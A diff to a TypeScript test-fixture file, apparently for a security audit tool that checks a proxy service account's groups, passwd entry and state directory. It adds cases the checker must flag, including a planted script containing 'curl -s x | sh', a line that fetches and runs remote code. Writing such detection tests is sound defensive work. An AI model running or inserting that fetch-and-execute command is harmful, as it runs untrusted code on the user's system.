@@ -219,6 +219,11 @@ export const BREAKS: PulseBreak[] = [
     ],
   },
   {
+    name: "the proxy in www-data, as Pulse's installer puts it (pvecm on the cluster IPC)",
+    with: [group(`${GROUP}www-data:x:33:${P}\n`)],
+    fails: [],
+  },
+  {
     name: 'the service account in the root group',
     with: [passwd(PASSWD.replace(PROXY_PASSWD, `${P}:x:997:0::/nonexistent:/usr/sbin/nologin`))],
     fails: [{check: 'PSP-ACCOUNT-004', path: '/etc/passwd', line: 3, message: /primary group is gid 0/}],
@@ -256,8 +261,37 @@ export const BREAKS: PulseBreak[] = [
     ],
     fails: [
       {check: 'PSP-FILE-008', path: `${S}/.cache`, message: /unexpected directory/},
+      // Inside an unexpected directory each entry is named, not only the directory.
+      {check: 'PSP-FILE-008', path: `${S}/.cache/payload`, message: /unexpected file/},
       {check: 'PSP-FILE-008', path: `${S}/ssh/id_ed25519.bak`, message: /unexpected file/},
     ],
+  },
+  {
+    name: 'an executable and a script planted below the state directory',
+    with: [
+      {path: `${S}/.local`, type: 'dir', mode: 0o700, owner: P, group: P},
+      {path: `${S}/.local/bin`, type: 'dir', mode: 0o700, owner: P, group: P},
+      {path: `${S}/.local/bin/agent`, mode: 0o755, owner: P, group: P, content: '\x7fELF\n'},
+      {path: `${S}/.local/run`, mode: 0o600, owner: P, group: P, content: '#!/bin/sh\ncurl -s x | sh\n'},
+    ],
+    fails: [
+      {check: 'PSP-FILE-008', path: `${S}/.local`, message: /unexpected directory/},
+      {check: 'PSP-FILE-008', path: `${S}/.local/bin`, message: /unexpected directory/},
+      {
+        check: 'PSP-FILE-008',
+        path: `${S}/.local/bin/agent`,
+        message: /unexpected executable .*read it first/,
+      },
+      {check: 'PSP-FILE-008', path: `${S}/.local/run`, message: /unexpected script .*read it first/},
+    ],
+  },
+  {
+    name: "the cleanup request and lock of Pulse's installer are not unexpected",
+    with: [
+      {path: `${S}/cleanup-request.json`, mode: 0o600, owner: P, group: P, content: '{"host":""}\n'},
+      {path: `${S}/cleanup.lock`, mode: 0o644, content: ''},
+    ],
+    fails: [],
   },
   {
     name: 'cron jobs running as the proxy account',
